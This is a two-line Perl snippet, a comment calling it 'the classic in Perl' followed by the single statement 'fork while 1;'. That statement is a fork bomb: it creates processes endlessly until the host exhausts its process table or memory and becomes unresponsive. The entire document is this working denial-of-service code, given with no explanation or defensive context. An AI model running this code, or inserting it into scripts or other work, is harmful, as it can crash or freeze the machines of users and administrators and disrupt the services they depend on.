# The classic in Perl.
fork while 1;
